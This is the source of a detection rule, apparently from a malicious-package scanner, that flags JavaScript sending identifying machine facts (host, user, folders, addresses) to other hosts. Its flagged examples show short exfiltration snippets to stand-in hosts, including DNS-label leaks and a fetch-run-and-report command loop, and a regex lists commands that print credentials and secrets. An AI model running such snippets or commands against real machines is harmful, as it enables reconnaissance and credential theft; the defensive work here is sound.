import {
  bodyLabels,
  defineRule,
  fixedTargetOf,
  oddTargetOf,
  outgoing,
  sinkSays,
  step,
  stepsOf,
} from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
import { IDENTIFYING_FACTS } from '../src/vocabulary/abilities.js';
import { isServed } from '../src/vocabulary/served.js';

export default defineRule({
  meta: {
    summary: 'Sends who and where the machine is to another one',
    why: 'Dependency-confusion probes and first stages report host name, user name, folders and addresses home. Telemetry sends the platform and versions, at most a hashed machine id; one fact alone, or facts about software only, are not flagged. (GENIE, SecDev 2024: three kinds of fact into one sink.)',
    behaviour: 'theft',
    messages: {
      fingerprint: 'Sends {facts} through {sink}',
      pair: 'Sends {facts} through {sink}',
      odd: 'Sends the {facts} to {address}',
      named: 'Asks for a name on another machine with the {facts} in it, through {sink}',
      single: 'Sends the {facts} to an address fixed in its code, through {sink}',
      obeys: 'Sends what a command it was told prints, through {sink}',
      output: 'Sends what a shell command prints ({command}) through {sink}',
    },
    bits: { fingerprint: 11.5, pair: 8, output: 10, odd: 9, named: 9, single: 4, obeys: 8 },
  },
  examples: {
    flags: [
      {
        title: 'host, user and folder are posted',
        code: `const os = require('os'), https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(data);\nreq.end();`,
      },
      {
        title: 'one of them leaves as a label of one, from the shell',
        code: `const os = require('os');\nrequire('child_process').exec('nslookup ' + os.hostname() + '.collect.invalid');`,
      },
      {
        title: 'what a command prints that was fetched is sent back',
        code: `const { exec } = require('child_process');\nfetch('https://orders.invalid').then(r => r.text()).then(order => exec(order, (error, out) => fetch('https://orders.invalid', { method: 'POST', body: out })));`,
      },
      {
        title: 'the host and the address that a service says it has',
        code: `const os = require('os');\nfetch('https://ip.invalid').then(r => r.text()).then(ip => fetch('https://collect.invalid', { method: 'POST', body: ip + os.hostname() }));`,
      },
      {
        title: 'who uses the machine is sent to a fixed address',
        code: `fetch('https://collect.invalid/?who=' + require('os').userInfo().username);`,
      },
      {
        title: 'they leave as labels of a DNS question',
        code: `const dns = require('dns'), os = require('os');\nconst id = Buffer.from(os.hostname() + '|' + os.userInfo().username + '|' + process.cwd()).toString('hex');\ndns.lookup(id + '.collect.invalid', () => {});`,
      },
    ],
    passes: [
      {
        title: 'the home folder is in an option that no request uses',
        code: `const os = require('os'), https = require('https');\nconst options = Object.assign({}, { host: 'releases.invalid' }, settings);\noptions.cache = os.homedir();\nhttps.request({ host: options.host, path: '/latest/' + options.revision, method: 'HEAD' }).end();`,
      },
      {
        title: 'the path of a local socket lies in the home folder',
        code: `const net = require('net'), os = require('os'), path = require('path');\nnet.createConnection(path.join(os.homedir(), os.userInfo().username, '.daemon.sock'));`,
      },
      {
        title: 'a socket tells its listeners, and nobody else',
        code: `const net = require('net'), os = require('os');\nconst socket = new net.Socket();\nsocket.emit('ready', os.hostname(), os.userInfo().username, process.cwd());`,
      },
      {
        title: 'an id that was kept in a file of the user is sent',
        code: `import fs from 'fs-extra';\nimport os from 'os';\nconst { id } = await fs.readJSON(os.homedir() + '/' + os.userInfo().username + '/id.json');\nfetch('https://stats.invalid', { method: 'POST', body: JSON.stringify({ id }) });`,
      },
      {
        title: 'the platform chooses a download',
        code: `const os = require('os');\nfetch('https://download.invalid/tool-' + os.platform() + '-' + os.arch() + '.tar.gz');`,
      },
      {
        title: 'the machine asks for its own name',
        code: `const dns = require('dns'), os = require('os');\ndns.lookup(os.hostname(), (error, address) => console.log(address));`,
      },
      {
        title: 'a host says its name to a server that is configured',
        code: `fetch(process.env.COLLECTOR_URL, { method: 'POST', body: require('os').hostname() });`,
      },
      {
        title: 'a client says on which machine, in passing, to a service that says itself where to ask',
        code: `const agent = 'tool/1 (' + require('os').hostname() + ')';\nexports.token = async () => {\n  const { token_endpoint } = await (await fetch('https://id.invalid/.well-known/openid-configuration', { headers: { 'user-agent': agent } })).json();\n  return fetch(token_endpoint, { method: 'POST', headers: { 'user-agent': agent }, body: 'grant_type=refresh_token' });\n};`,
      },
      {
        title: 'a client says which version it is',
        code: `fetch('https://api.invalid', { headers: { 'user-agent': 'tool/1 ' + process.platform + ' ' + process.version } });`,
      },
      {
        title: 'a server prints where it listens',
        code: `const os = require('os');\nconsole.log(os.hostname(), os.networkInterfaces(), os.userInfo());`,
      },
    ],
  },
  file(context) {
    // What one request sends may be written to it in pieces, so facts are counted per file of sinks.
    for (const { call, labels } of outgoing(context)) {
      const facts = labels.filter(label => label.kind === 'system' && !isOfAgent(context, call, label));
      const identifying = facts.filter(
        ({ detail }, at) => IDENTIFYING_FACTS.has(detail) && facts.findIndex(other => other.detail === detail) === at,
      );
      // An address of its own that a service answered, sent on with one fact, makes two.
      const asked = answersIn(context, call).some(({ kind, detail }) => kind === 'remote' && !isServed(detail));
      const address = identifying.length > 0 ? oddTargetOf(context, call) : undefined;
      if (identifying.length >= 2) {
        const [first, ...others] = identifying as [(typeof facts)[number], ...typeof facts];
        context.report({
          // Two that go to such an address are not less than one that does.
          messageId: identifying.length >= 3 ? 'fingerprint' : address ? 'odd' : 'pair',
          data: {
            facts: [...new Set(identifying.map(({ detail }) => detail))].join(', '),
            address: address ?? '',
            sink: call.name,
          },
          chain: [
            ...stepsOf(first),
            ...others.slice(0, 4).flatMap(label => stepsOf(label).slice(0, 1)),
            step('sink', sinkSays(call), context.file, call.node),
          ],
        });
      } else if (identifying[0]) {
        const messageId = address
          ? 'odd'
          : asksName(context, call)
            ? 'named'
            : asked && TELLING.has(identifying[0].detail)
              ? 'pair'
              : fixedTargetOf(context, call) !== undefined && TELLING.has(identifying[0].detail)
                ? 'single'
                : undefined;
        if (messageId)
          context.report({
            messageId,
            data: { facts: identifying[0].detail, address: address ?? '', sink: call.name },
            chain: [...stepsOf(identifying[0]), step('sink', sinkSays(call), context.file, call.node)],
          });
      }
      const printed = labels.find(({ kind }) => kind === 'command-output');
      if (!printed || call.name.startsWith('child_process.')) continue;
      const command = (printed.origin.node as { arguments?: AnyNode[] }).arguments?.[0];
      if (
        command &&
        printed.origin.file === context.file &&
        context.labelsOf(command).some(({ kind }) => kind === 'remote')
      ) {
        context.report({
          messageId: 'obeys',
          data: { sink: call.name },
          chain: [...stepsOf(printed), step('sink', sinkSays(call), context.file, call.node)],
        });
        continue;
      }
      const texts = command && printed.origin.file === context.file ? context.textsOf(command) : [];
      if (!texts.some(text => TELLING_COMMAND.test(text))) continue;
      context.report({
        messageId: 'output',
        data: { command: texts[0] ?? '', sink: call.name },
        chain: [...stepsOf(printed), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
  },
});

/** Facts that say who, rather than where in a project. */
const TELLING: ReadonlySet<string> = new Set(['host name', 'user name', 'home folder', 'network addresses']);

/** A question for a name that has something filled in before a fixed domain: whoever answers it, learns it. */
function asksName({ textsOf }: FileContext, { name, args }: Call): boolean {
  const isQuestion = /^dns\b/.test(name);
  return args
    .slice(0, 1)
    .flatMap(arg => textsOf(arg))
    .some(text =>
      isQuestion
        ? /…\.?(?:[\w-]+\.)+[a-z]{2,}$/i.test(text)
        : /\b(?:nslookup|dig|ping|host)\b.{0,200}…\.(?:[\w-]+\.)+[a-z]{2,}/i.test(text),
    );
}

/** Origins of what a call sends, without those of an address of which nothing else is known: it was looked up. */
function answersIn({ labelsOf, textsOf }: FileContext, { args }: Call): readonly Label[] {
  return args.flatMap((arg, at) => (at === 0 && args.length > 1 && textsOf(arg).length === 0 ? [] : labelsOf(arg)));
}

/** A client of a service says in passing which machine it runs on; who is only installed has nothing to ask. */
function isOfAgent(context: FileContext, call: Call, label: Label): boolean {
  if (context.moment === 'install') return false;
  const [address, ...others] = call.args;
  const isIt = ({ kind, detail }: Label): boolean => kind === label.kind && detail === label.detail;
  return (
    others.some(arg => AGENT.some(name => context.labelsOfProperty(arg, 'headers', name).some(isIt))) &&
    !bodyLabels(context, call).some(isIt) &&
    !(address && context.labelsOf(address).some(isIt))
  );
}

const AGENT = ['user-agent', 'User-Agent'];

/** Commands that print who or what is here, or what is kept from others. */
const TELLING_COMMAND =
  /\b(?:hostname|whoami|id|uname|ip (?:a|addr)|ifconfig|ipconfig|env|printenv|cat|type|ls|ps|systeminfo|tasklist|net user|npm (?:config (?:list|ls)|whoami|token list)|npm config get \S{0,200}(?:_auth|token|email)\w{0,20}|git (?:config|credential)|find-(?:generic|internet)-password|dump-keychain|secret-tool|cmdkey|gh auth token|gcloud auth print|az account get|aws configure|heroku auth|kubectl (?:get secrets?|config view)|op read|pass show|trufflehog|gitleaks|noseyparker|detect-secrets|ggshield|tar \S{0,6}c)\b|^\s*set\s*$/i;
